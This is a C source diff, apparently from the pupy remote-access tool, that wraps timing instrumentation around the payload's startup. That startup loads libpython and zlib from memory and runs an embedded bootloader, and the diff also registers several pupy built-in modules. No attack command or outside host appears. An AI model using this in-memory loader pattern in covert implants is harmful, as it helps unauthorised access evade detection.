@@ -15,6 +15,7 @@
 #include "Python-dynload.h"
 
 #include "_memimporter.h"
+#include "profile.h"
 #include "debug.h"
 
 extern const char resources_python27_so_start[];
@@ -29,6 +30,10 @@ extern const int resources_zlib_so_size;
 #endif
 
 extern DL_EXPORT(void) init_memimporter(void);
+extern DL_EXPORT(void) init_pupybuffer(void);
+extern DL_EXPORT(void) init_pupyxor(void);
+extern DL_EXPORT(void) init_pupycrypto(void);
+extern DL_EXPORT(void) init_pupybrine(void);
 extern DL_EXPORT(void) initpupy(void);
 
 // Simple trick to get the current pupy arch
@@ -47,10 +52,12 @@ uint32_t mainThread(int argc, char *argv[], bool so) {
 	FILE * f;
 	uintptr_t cookie = 0;
 	PyGILState_STATE restore_state;
+	int phase;
 
 	if(!Py_IsInitialized) {
 		int res=0;
 
+		phase = profile_start("load python");
 		if(!_load_python(
 				"libpython2.7.so",
 				resources_python27_so_start,
@@ -58,10 +65,13 @@ uint32_t mainThread(int argc, char *argv[], bool so) {
 			dprint("loading libpython2.7.so from memory failed\n");
 			return -1;
 		}
+		profile_stop(phase);
 	}
 
 	dprint("calling PyEval_InitThreads() ...\n");
+	phase = profile_start("PyEval_InitThreads");
 	PyEval_InitThreads();
+	profile_stop(phase);
 	dprint("PyEval_InitThreads() called\n");
 
 	if(!Py_IsInitialized()) {
@@ -74,7 +84,9 @@ uint32_t mainThread(int argc, char *argv[], bool so) {
 		Py_SetProgramName(program_invocation_name);
 
 		dprint("Initializing python.. (%p)\n", Py_Initialize);
+		phase = profile_start("Py_InitializeEx");
 		Py_InitializeEx(0);
+		profile_stop(phase);
 
 		dprint("SET ARGV\n");
 		if (argc > 0) {
@@ -99,26 +111,40 @@ uint32_t mainThread(int argc, char *argv[], bool so) {
 	}
 	restore_state=PyGILState_Ensure();
 
+	phase = profile_start("init builtin modules");
 	init_memimporter();
 	dprint("init_memimporter()\n");
+	init_pupybuffer();
+	dprint("init_pupybuffer()\n");
+	init_pupyxor();
+	dprint("init_pupyxor()\n");
+	init_pupycrypto();
+	dprint("init_pupycrypto()\n");
+	init_pupybrine();
+	dprint("init_pupybrine()\n");
 	initpupy();
 	dprint("initpupy()\n");
+	profile_stop(phase);
 
 #ifdef _PYZLIB_DYNLOAD
 	dprint("load zlib\n");
+	phase = profile_start("import zlib");
     if (!import_module("initzlib", "zlib", resources_zlib_so_start, resources_zlib_so_size)) {
         dprint("ZLib load failed.\n");
     }
+	profile_stop(phase);
 #endif
 
 	/* We execute then in the context of '__main__' */
 	dprint("starting evaluating python code ...\n");
 	m = PyImport_AddModule("__main__");
 	if (m) d = PyModule_GetDict(m);
+	phase = profile_start("bootloader unmarshal");
 	if (d) seq = PyMarshal_ReadObjectFromString(
 		resources_bootloader_pyc_start,
 		resources_bootloader_pyc_size
 	);
+	profile_stop(phase);
 
 	if (seq) {
 		Py_ssize_t i, max = PySequence_Length(seq);
@@ -126,7 +152,9 @@ uint32_t mainThread(int argc, char *argv[], bool so) {
 			dprint("LOAD SEQUENCE %d\n", i);
 			PyObject *sub = PySequence_GetItem(seq, i);
 			if (seq) {
+				phase = profile_start("bootloader[%zd]", i);
 				PyObject *discard = PyEval_EvalCode((PyCodeObject *)sub, d, d);
+				profile_stop(phase);
 				if (!discard) {
 					dprint("discard\n");
 					PyErr_Print();